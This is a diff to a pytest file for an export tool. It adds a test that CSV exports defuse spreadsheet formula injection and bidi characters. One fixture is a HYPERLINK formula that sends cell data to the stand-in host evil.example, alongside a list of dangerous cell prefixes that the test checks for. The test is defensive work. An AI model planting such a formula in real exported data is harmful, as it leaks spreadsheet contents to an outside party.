@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import re
 import sqlite3
@@ -13,12 +14,13 @@ import pytest
 
 from arena.cli.main import main
 from arena.engine import bulk_export, json_patch
-from arena.engine.export_formats import read_rows
+from arena.engine.export_formats import read_rows, spreadsheet_text
 from arena.store.database import Store
 from tests.support.episodes import stored_turns
 
 EXPORT_DOC = Path(__file__).parents[2] / "docs" / "export.md"
 TRICKY_REASON = 'a, "quoted"\nsecond line \u202e and ; commas'
+FORMULA_REASON = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 
 def arena(capsys: pytest.CaptureFixture[str], db: Path, *argv: str) -> tuple[int, str, str]:
@@ -53,6 +55,10 @@ def played(tmp_path_factory: pytest.TempPathFactory) -> Path:
             "UPDATE turns SET reason = ?, reason_in_action = 0 WHERE episode_id = ? AND idx = 1",
             (TRICKY_REASON, lemonade_id),
         )
+        store.conn.execute(  # a reason a spreadsheet would run as a formula
+            "UPDATE turns SET reason = ?, reason_in_action = 0 WHERE episode_id = ? AND idx = 2",
+            (FORMULA_REASON, lemonade_id),
+        )
     finally:
         store.close()
     return db
@@ -79,7 +85,7 @@ def test_csv_and_parquet_read_back_equal_the_json_lines(
     csv_rows = exported(capsys, played, tmp_path / "rows.csv", *argv)
     parquet_rows = exported(capsys, played, tmp_path / "rows.parquet", *argv)
     assert lines, "nothing exported"
-    assert csv_rows == lines
+    assert csv_rows == [as_csv_shows(row) for row in lines]
     assert parquet_rows == lines
     names = [c.name for c in bulk_export.columns("seats" if "seats" in argv else "turns", "none")]
     assert list(lines[0])[: len(names)] == names
@@ -89,6 +95,31 @@ def test_csv_and_parquet_read_back_equal_the_json_lines(
         # Every column kind is exercised with real values, nulls included.
         assert any(row["tournament_id"] is None for row in lines)
         assert all(isinstance(row["valid"], bool) and isinstance(row["state"], dict) for row in lines)
+
+
+def as_csv_shows(value: Any) -> Any:
+    """``value`` with every string's control and bidi characters as the CSV writes them."""
+    if isinstance(value, str):
+        return spreadsheet_text(value, formula=False)
+    if isinstance(value, dict):
+        return {key: as_csv_shows(item) for key, item in value.items()}
+    if isinstance(value, list):
+        return [as_csv_shows(item) for item in value]
+    return value
+
+
+def test_csv_cells_are_inert_in_a_spreadsheet_and_read_back_as_written(
+    capsys: pytest.CaptureFixture[str], played: Path, tmp_path: Path
+) -> None:
+    target = tmp_path / "rows.csv"
+    rows = exported(capsys, played, target, "--game", "lemonade")
+    with target.open(newline="") as cells:
+        reasons = [row["reason"] for row in csv.DictReader(cells)]
+    assert "'" + FORMULA_REASON in reasons, "a formula is text in a spreadsheet"
+    assert not any(reason.startswith(("=", "+", "-", "@", "\t", "\r")) for reason in reasons)
+    assert 'a, "quoted"\nsecond line <U+202E> and ; commas' in reasons, "bidi shown as an escape"
+    assert "\u202e" not in target.read_text()
+    assert FORMULA_REASON in {row["reason"] for row in rows}, "the reader removes the quote it added"
 
 
 def test_json_lines_escape_invisible_characters_but_decode_to_them(
